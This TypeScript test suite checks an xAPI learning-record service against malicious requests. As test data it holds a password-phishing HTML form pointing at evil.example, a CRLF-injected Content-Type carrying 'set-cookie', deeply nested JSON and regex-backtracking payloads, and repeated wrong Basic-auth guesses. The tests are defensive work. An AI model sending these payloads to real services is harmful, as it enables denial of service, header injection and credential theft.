import { createHash, randomUUID } from 'node:crypto'
import { sql } from 'kysely'
import { beforeAll, describe, expect, it } from 'vitest'
import { inSystemTransaction } from '../../platform/transaction.ts'
import { type Client, type Fixture, NOW, openFixture } from '../../test/fixture.ts'
import { plantMember } from '../../test/meeting-cases.ts'
import {
  about,
  attached,
  MIXED,
  multipart,
  type Program,
  programOf,
  speaker,
  statementOf,
} from '../../test/xapi-program.ts'
import { keyOf } from './xapi.keys.ts'
import { prepareLaunch } from './xapi.launched.ts'

let f: Fixture
let desk: Client
let program: Program

beforeAll(async () => {
  f = await openFixture()
  desk = await f.signIn('committee_admin', 'committee')
  program = await programOf(f, desk)
})

const ORIGIN = 'http://127.0.0.1:8080'
const MB = 1024 * 1024
const refusedAt = (field: string, code: string) => ({
  status: 400,
  body: { code: 'request.malformed', fields: [{ field, code: `field.${code}` }] },
})
const attachment = (more: object) => ({
  usageType: 'https://example.org/certificate',
  display: { 'zh-CN': '结业证书' },
  contentType: 'text/plain',
  length: 3,
  sha2: createHash('sha256').update('abc').digest('hex'),
  fileUrl: 'https://example.org/a',
  ...more,
})
const state = (agent: object, name = 's1') =>
  `activities/state?stateId=${encodeURIComponent(name)}&activityId=${encodeURIComponent('https://course.example.org/1')}&agent=${about(agent)}`
const SOMEBODY = { mbox: 'mailto:a@b.cn' }

describe('statements that are meant to hurt', () => {
  it('are refused where they hold what no database takes, whatever else came with them', async () => {
    const named = (name: string) =>
      statementOf({ object: { id: 'https://x.cn/1', definition: { name: { en: name } } } })
    const body = [statementOf(), named('\0')]
    expect(await program.send('POST', 'statements', body)).toMatchObject(
      refusedAt('/body/1/object/definition/name/en', 'wrong_format'),
    )
    expect(await program.send('POST', 'statements', named('\ud800'))).toMatchObject(
      refusedAt('/body/object/definition/name/en', 'wrong_format'),
    )
    const iri = statementOf({ object: { id: 'https://x.cn/\0', definition: {} } })
    expect((await program.send('POST', 'statements', iri)).status).toBe(400)
    expect(await program.send('PUT', state(SOMEBODY, '\0'), { a: 1 })).toMatchObject(
      refusedAt('/query/stateId', 'wrong_format'),
    )
  })

  it('are refused where they are deeper than anything that is meant', async () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
    const text = JSON.stringify(statementOf({ result: { extensions: { 'https://x.cn/e': 0 } } }))
    const sent = text.replace('"https://x.cn/e":0', `"https://x.cn/e":${deep}`)
    expect((await program.send('POST', 'statements', sent)).status).toBe(400)
    await program.send('PUT', state(SOMEBODY, 'deep'), {})
    expect((await program.send('POST', state(SOMEBODY, 'deep'), `{"a":${deep}}`)).status).toBe(400)
  })

  it('do not keep the server busy with one type that can be read in 2^40 ways', async () => {
    const contentType = `a/b${';a=""'.repeat(40)} x`
    expect(
      await program.send('POST', 'statements', statementOf({ attachments: [attachment({ contentType })] })),
    ).toMatchObject(refusedAt('/body/attachments/0/contentType', 'wrong_format'))
  })

  it('come in bodies that are taken apart once, not for every line that begins like a delimiter', async () => {
    const part = `--b\r\nContent-Type: application/json\r\n\r\n${JSON.stringify(statementOf())}`
    const type = { 'content-type': 'multipart/mixed; boundary=b' }
    expect((await program.send('POST', 'statements', `${part}\r\n--b--\r\n`, type)).status).toBe(200)
    const padded = `${'\r\n--bx'.repeat(20_000)}\r\n${part}\r\n--b--\r\n`
    expect((await program.send('POST', 'statements', padded, type)).status).toBe(400)
  })

  it('rename no course of ours, under whatever name they know it', async () => {
    const iri = `urn:tongxin:here/activities/course/${randomUUID()}`
    const definition = JSON.stringify({ name: { 'zh-CN': '党章学习' } })
    await f.admin
      .insertInto('xapi_activity')
      .values({ tenant_id: f.tenantId, key: keyOf(iri), iri, definition })
      .execute()
    const told = { definition: { name: { 'zh-CN': '改名' } } }
    for (const id of [iri, iri.replace('urn:tongxin:here', ORIGIN)])
      expect((await program.send('POST', 'statements', statementOf({ object: { id, ...told } }))).status).toBe(200)
    const known = await program.send('GET', `activities?activityId=${encodeURIComponent(iri)}`)
    expect(known.body).toMatchObject({ definition: { name: { 'zh-CN': '党章学习' } } })
  })

  it('lose no definition when the write that brought it was rolled back', async () => {
    const object = { id: `https://x.cn/${randomUUID()}`, definition: { name: { en: 'First lesson' } } }
    await sql`alter table xapi_statement add constraint closed check (id is null) not valid`.execute(f.admin)
    expect((await program.send('POST', 'statements', statementOf({ object }))).status).toBe(500)
    await sql`alter table xapi_statement drop constraint closed`.execute(f.admin)
    expect((await program.send('POST', 'statements', statementOf({ object }))).status).toBe(200)
    const known = await program.send('GET', `activities?activityId=${encodeURIComponent(object.id)}`)
    expect(known.body).toMatchObject({ definition: object.definition })
  })
})

describe('answers that would fill the memory', () => {
  it('end their page where the attachments of the next statement would go beyond, and go on from there', async () => {
    const by = await programOf(f, desk)
    const object = { id: `https://x.cn/${randomUUID()}` }
    const activity = encodeURIComponent(object.id)
    for (const letter of ['a', 'b']) {
      const bytes = Buffer.alloc(5 * MB, letter)
      const facts = attached(bytes)
      const one = statementOf({ object, attachments: [facts] })
      expect((await by.send('POST', 'statements', multipart(one, bytes, facts.sha2), MIXED)).status).toBe(200)
    }
    const page = async (path: string): Promise<string> => String((await by.send('GET', path)).body)
    const first = await page(`statements?attachments=true&limit=2&activity=${activity}`)
    expect(first.length).toBeLessThan(6 * MB)
    const more = /"more":"\/xapi\/([^"]+)"/.exec(first)?.[1] ?? ''
    expect(more).not.toBe('')
  })

  it('end their page also where the statements themselves are long', async () => {
    const reader = await programOf(f, desk, ['statements/write', 'statements/read/mine'])
    const long = () => statementOf({ result: { response: 'a'.repeat(255_000) } })
    const sent = await reader.send('POST', 'statements', Array.from({ length: 20 }, long))
    expect(sent.status).toBe(200)
    type Page = { statements: object[]; more: string }
    const first = (await reader.send<Page>('GET', 'statements?limit=100')).body
    expect(first.statements.length).toBeLessThan(20)
    const rest = (await reader.send<Page>('GET', first.more.slice('/xapi/'.length))).body
    expect(first.statements.length + rest.statements.length).toBe(20)
    expect(rest.more).toBe('')
  })

  it('are not asked for by a place that is none', async () => {
    const more = Buffer.from(JSON.stringify({ asked: {}, seq: '-'.repeat(36) })).toString('base64url')
    expect(await program.send('GET', `statements?more=${more}`)).toMatchObject(refusedAt('/query/more', 'wrong_format'))
  })
})

describe('documents', () => {
  it('of members are reached with a key of their organisation or one above, and nobody else learns who is there', async () => {
    const [near, far] = [await plantMember(f, 'teachers', '近'), await plantMember(f, 'nurses', '远')]
    const branch = await programOf(f, await f.signIn('party_worker', 'teachers'))
    const account = (name: string, homePage = ORIGIN) => ({ account: { homePage, name } })
    expect((await program.send('PUT', state(account(far.id)), { page: 3 })).status).toBe(204)
    const foreign = { status: 403, body: { code: 'xapi.not_your_people' } }
    for (const agent of [account(far.id), account(far.id, 'urn:tongxin:here'), account(randomUUID()), account('x')]) {
      expect(await branch.send('GET', state(agent))).toMatchObject(foreign)
      expect(await branch.send('PUT', state(agent), { page: 99 })).toMatchObject(foreign)
      expect(await branch.send('DELETE', state(agent))).toMatchObject(foreign)
      expect(await branch.send('PUT', `agents/profile?profileId=p&agent=${about(agent)}`, {})).toMatchObject(foreign)
    }
    expect((await program.send('GET', state(account(far.id)))).body).toEqual({ page: 3 })
    expect((await branch.send('PUT', state(account(near.id)), { page: 1 })).status).toBe(204)
    expect((await branch.send('PUT', state(SOMEBODY, 'own'), { page: 1 })).status).toBe(204)
  })

  it('do not grow without end by being posted to', async () => {
    const long = { status: 413, body: { code: 'request.too_large' } }
    const path = state(SOMEBODY, 'growing')
    expect((await program.send('PUT', path, { a: 'a'.repeat(4 * MB) })).status).toBe(204)
    expect(await program.send('POST', path, { b: 'b'.repeat(2 * MB) })).toMatchObject(long)
  })

  it('show nothing in a browser, and carry no type that breaks out of a header', async () => {
    const html = '<form action="https://evil.example"><input name="password"></form>'
    const path = state(SOMEBODY, 'page')
    await program.send('PUT', path, html, { 'content-type': 'text/html' })
    expect((await program.send('GET', path)).headers).toMatchObject({
      'content-disposition': 'attachment',
      'content-security-policy': expect.stringContaining('sandbox'),
    })
    const form = new URLSearchParams({
      Authorization: `Basic ${Buffer.from(`${program.key}:${program.secret}`).toString('base64')}`,
      'X-Experience-API-Version': '1.0.3',
      'Content-Type': 'text/plain\r\nset-cookie: a=b',
      activityId: 'https://course.example.org/1',
      agent: JSON.stringify(SOMEBODY),
      stateId: 'broken',
      content: 'x',
    }).toString()
    const type = { 'content-type': 'application/x-www-form-urlencoded', authorization: undefined }
    const sent = await program.send('POST', 'activities/state?method=PUT', form, {
      ...type,
      'x-experience-api-version': undefined,
    })
    expect(sent).toMatchObject(refusedAt('/headers/content-type', 'wrong_format'))
  })

  it('of launched content are small, and so is what it sends in a minute', async () => {
    const member = await plantMember(f, 'teachers', '学员')
    const [session, registration] = [randomUUID(), randomUUID()]
    const path = await inSystemTransaction(f.platform, { tenantId: f.tenantId, scope: 'r00' }, (db) =>
      prepareLaunch(
        { db, now: NOW, tenantId: f.tenantId, vault: f.platform.vault },
        { session, memberId: member.id, registration, until: new Date(NOW.getTime() + 3600_000) },
      ),
    )
    const fetched = (await f.app.http.inject({ method: 'POST', url: path })).json<{ 'auth-token': string }>()
    const [key = '', secret = ''] = Buffer.from(fetched['auth-token'], 'base64').toString().split(':')
    const unit = speaker(f, key, secret)
    const own = (name: string) =>
      `${state({ account: { homePage: ORIGIN, name: member.id } }, name)}&registration=${registration}`
    const kept = async (name: string, bytes: number) =>
      (await unit.send('PUT', own(name), 'x'.repeat(bytes), { 'content-type': 'text/plain', 'if-none-match': '*' }))
        .status
    expect(await kept('large', MB + 1)).toBe(413)
    const answers: number[] = []
    for (let at = 0; at < 12; at += 1) answers.push(await kept(`s${at}`, MB - 1))
    expect(answers.slice(0, 8)).toEqual(Array(8).fill(204))
    expect(answers.at(-1)).toBe(429)
  })
})

describe('a right key', () => {
  it('opens also beside somebody who guesses from the same address', async () => {
    const remoteAddress = '192.0.2.77'
    const ask = (authorization: string) =>
      f.app.http.inject({
        method: 'GET',
        url: `/xapi/${state(SOMEBODY, 'none')}`,
        headers: { authorization, 'x-experience-api-version': '2.0.0' },
        remoteAddress,
      })
    for (let tries = 0; tries < 101; tries += 1) await ask('Basic eDp5')
    expect((await ask('Basic eDp5')).json()).toMatchObject({ code: 'xapi.too_many_wrong' })
    const right = Buffer.from(`${program.key}:${program.secret}`).toString('base64')
    expect((await ask(`Basic ${right}`)).json()).toMatchObject({ code: 'request.not_found' })
  })
})
